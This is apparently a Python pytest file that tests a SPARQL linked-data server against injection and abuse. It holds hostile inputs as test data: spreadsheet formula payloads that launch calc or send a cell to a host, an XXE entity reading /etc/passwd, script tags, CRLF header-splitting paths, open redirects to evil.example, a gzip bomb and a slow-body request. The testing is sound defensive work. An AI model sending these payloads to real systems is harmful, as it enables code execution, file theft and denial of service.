"""Threats 6, 7, 11 and 12: what an answer, a header or a request may carry into somebody else's program."""

import asyncio
import csv
import gzip
import io
import time
from urllib.parse import unquote
from xml.etree import ElementTree

import pytest
from starlette.testclient import TestClient
from starlette.types import ASGIApp, Message, Receive

from kg.answering import writing
from kg.serving.protocol import data as data_pages
from kg.serving.protocol import receiving
from kg.serving.protocol import sparql as sparql_pages

from .conftest import Canary, Serve

FORMULAS = [
    "=HYPERLINK(\"http://a.example/?\" & A1)", "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
]  # fmt: skip


def literal(text: str) -> str:
    said = text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r").replace("\n", "\\n")
    return f'"{said}"'


def formulas(client: TestClient, **more: str) -> None:
    """AssertionError where a cell of the CSV begins as a formula does."""
    values = " ".join(map(literal, FORMULAS))
    query = f"SELECT ?a (STRLANG(?a, 'vi') AS ?b) (-3 AS ?n) {{ VALUES ?a {{ {values} }} }}"
    answer = client.post("/sparql", data={"query": query, "format": "csv", **more})
    rows = list(csv.reader(io.StringIO(answer.content.decode(), newline="")))[1:]
    assert len(rows) == len(FORMULAS)
    assert all(cell[0] == "'" and cell[1:] in FORMULAS for row in rows for cell in row[:2])
    assert {row[2] for row in rows} == {"-3"}  # a number is no formula


def test_a_spreadsheet_runs_nothing_of_a_csv(serve: Serve) -> None:
    formulas(serve())


def test_raw_it_would(serve: Serve) -> None:
    with pytest.raises(AssertionError):
        formulas(serve(), raw="true")


MARKUP = [
    "</literal></binding><binding name='x'>", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>", "&b;&#0;",
    "]]>", "<script>alert(1)</script>", "</script><!--",
]  # fmt: skip


def markup(client: TestClient) -> None:
    """AssertionError where text of a literal becomes markup of the answer."""
    query = f"SELECT ?a {{ VALUES ?a {{ {' '.join(map(literal, MARKUP))} }} }}"
    answer = client.post("/sparql", data={"query": query, "format": "xml"})
    assert "<!DOCTYPE" not in answer.text
    try:
        root = ElementTree.fromstring(answer.content)
    except ElementTree.ParseError as error:
        raise AssertionError("no XML") from error
    assert [one.text for one in root.iter("{http://www.w3.org/2005/sparql-results#}literal")] == MARKUP


def test_text_stays_text_in_xml(serve: Serve) -> None:
    markup(serve())


def test_it_would_not_unescaped(monkeypatch: pytest.MonkeyPatch) -> None:
    """The writer alone, in this process: the one of the pool cannot be changed from here."""
    from pyoxigraph import Store

    class Client:
        def post(self, _: str, data: dict[str, str]) -> object:
            body = writing.write(Store().query(data["query"]), "xml", "nt", rows=99, size=99_999).body
            return type("Answer", (), {"content": body, "text": body.decode()})()

    markup(Client())  # type: ignore[arg-type]
    monkeypatch.setattr(writing, "_xml_text", lambda text: text)
    with pytest.raises(AssertionError):
        markup(Client())  # type: ignore[arg-type]


def sniffing(client: TestClient) -> None:
    """AssertionError where a browser could take an answer for a page of ours."""
    query = "SELECT ('<html><script>alert(1)</script>' AS ?a) {}"
    for form in ("json", "xml", "csv", "tsv"):
        answer = client.get("/sparql", params={"query": query, "format": form})
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "script-src 'self'" in answer.headers["content-security-policy"]
        assert "html" not in answer.headers["content-type"]
    wrong = client.get("/sparql", params={"query": "<script>alert(1)</script>"})
    assert (wrong.status_code, wrong.headers["content-type"]) == (400, "text/plain; charset=utf-8")


def test_no_answer_is_taken_for_a_page(serve: Serve) -> None:
    sniffing(serve())


def test_it_could_be_without_the_headers(serve: Serve, monkeypatch: pytest.MonkeyPatch) -> None:
    from kg.serving import headers

    monkeypatch.setattr(headers, "HEADERS", {})
    with pytest.raises((AssertionError, KeyError)):
        sniffing(serve())


SPLITTING = [
    "a%0d%0aX-Evil:%201",
    "a%0aX-Evil:%201",
    "%0d%0a%0d%0a%3Cscript%3E",
    "%E5%98%8A%E5%98%8DX-Evil:1",
    "a%22%3E;rel=x",
]


def splitting(client: TestClient, paths: list[str]) -> None:
    """AssertionError where an address becomes a header."""
    for path in paths:
        for start in ("/id/person/", "/vocabulary/award/", "/graph/document/", "/data/person/"):
            answer = client.get(start + path, headers={"Accept": "text/turtle"}, follow_redirects=False)
            assert "x-evil" not in answer.headers
            for name in {"location", "link"} & set(answer.headers):
                assert not {"\r", "\n"} & set(answer.headers[name])
                assert '">' not in answer.headers[name]
            assert answer.status_code == 404 or answer.headers["location"].startswith("/data/")


@pytest.mark.parametrize("path", SPLITTING)
def test_no_address_becomes_a_header(serve: Serve, path: str) -> None:
    splitting(serve(), [path])


@pytest.mark.parametrize("path", SPLITTING[3:])  # one with a line break in it has no route
def test_it_would_as_it_was_typed(serve: Serve, monkeypatch: pytest.MonkeyPatch, path: str) -> None:
    monkeypatch.setattr(data_pages, "same_spelling", unquote)
    with pytest.raises((AssertionError, UnicodeEncodeError)):
        splitting(serve(), [path])


def away(client: TestClient, canary: Canary) -> None:
    """AssertionError where an address of ours sends a browser to another site."""
    sent = []
    for path in (
        "/id//evil.example/x",
        "/id/%2F%2Fevil.example",
        f"/id/{canary.url}",
        "/vocabulary//evil.example",
        "/id/\\\\evil",
    ):
        answer = client.get(path, headers={"Accept": "text/html"}, follow_redirects=False)
        if "location" in answer.headers:
            assert answer.headers["location"].startswith(("/page/", "/data/"))
            sent.append(path)
    assert len(sent) == 4


def test_nobody_is_sent_away(serve: Serve, canary: Canary) -> None:
    away(serve(), canary)


def test_they_would_be_if_the_path_alone_said_where_to(
    serve: Serve, canary: Canary, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(data_pages, "_PAGE_OF", "")
    with pytest.raises(AssertionError):
        away(serve(), canary)


def inflating(client: TestClient) -> None:
    """AssertionError where a packed body is unpacked, or a long one read to its end."""
    packed = gzip.compress(b"ASK {} #" + b" " * 10_000_000)
    headers = {"Content-Type": "application/sparql-query", "Content-Encoding": "gzip"}
    assert client.post("/sparql", content=packed, headers=headers).status_code == 400
    pieces = 0

    async def many() -> dict[str, object]:
        nonlocal pieces
        pieces += 1
        return {"type": "http.request", "body": b" " * (1 << 16), "more_body": pieces < 1000}

    assert status_of(client.app, many) == 413
    assert pieces < 10


def test_bodies_are_neither_unpacked_nor_read_without_end(serve: Serve) -> None:
    inflating(serve())


def test_they_would_be_without_a_measure(serve: Serve, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sparql_pages, "MOST_BODY", 1 << 40)
    with pytest.raises(AssertionError):
        inflating(serve(query=1 << 40))


def lingering(serve: Serve) -> None:
    """A body that comes drop by drop: AssertionError where it is waited for."""

    async def drops() -> dict[str, object]:
        await asyncio.sleep(0.1)
        return {"type": "http.request", "body": b" ", "more_body": True}

    assert status_of(serve().app, drops) == 408


def status_of(app: ASGIApp, receive: Receive) -> object:
    """The status of the answer to a body that comes piece by piece; AssertionError where it is waited for."""
    sent: list[Message] = []

    async def send(message: Message) -> None:
        sent.append(message)

    headers = [(b"content-type", b"application/sparql-query"), (b"host", b"testserver")]
    scope = {
        "type": "http", "method": "POST", "path": "/sparql", "raw_path": b"/sparql", "query_string": b"",
        "root_path": "", "headers": headers, "client": ("203.0.113.9", 1), "server": ("testserver", 80),
        "scheme": "http", "http_version": "1.1",
    }  # fmt: skip
    try:
        asyncio.run(asyncio.wait_for(app(scope, receive, send), 1.5))
    except TimeoutError:
        raise AssertionError("still waiting") from None
    return sent[0]["status"]


def test_a_slow_body_is_not_waited_for(serve: Serve, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(receiving, "SECONDS", 0.4)
    begun = time.monotonic()
    lingering(serve)
    assert time.monotonic() - begun < 1.4


def test_it_would_be_without_the_clock(serve: Serve, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(receiving, "SECONDS", 1000.0)
    with pytest.raises(AssertionError):
        lingering(serve)


SNAPSHOT = {
    "access-control-allow-origin": "*",
    "content-security-policy": "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; "
    "font-src 'self'; connect-src 'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'",
    "cross-origin-opener-policy": "same-origin",
    "referrer-policy": "same-origin",
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
}


@pytest.mark.parametrize(
    "path",
    ["/sparql", "/sparql?query=ASK%7B%7D", "/sparql?query=x", "/.well-known/void", "/id/document/001",
     "/data/document/001.ttl", "/data/nothing", "/dump/graph.nq", "/ontology", "/graph/build"],
)  # fmt: skip
def test_the_headers_of_every_answer_to_programs(serve: Serve, path: str) -> None:
    answer = serve().get(path, headers={"Origin": "https://a.example"}, follow_redirects=False)
    assert {name: answer.headers.get(name) for name in SNAPSHOT} == SNAPSHOT
    assert "set-cookie" not in answer.headers
    assert "access-control-allow-credentials" not in answer.headers
    if answer.status_code in {200, 303} and "dump" not in path:
        assert "accept" in answer.headers["vary"].lower()
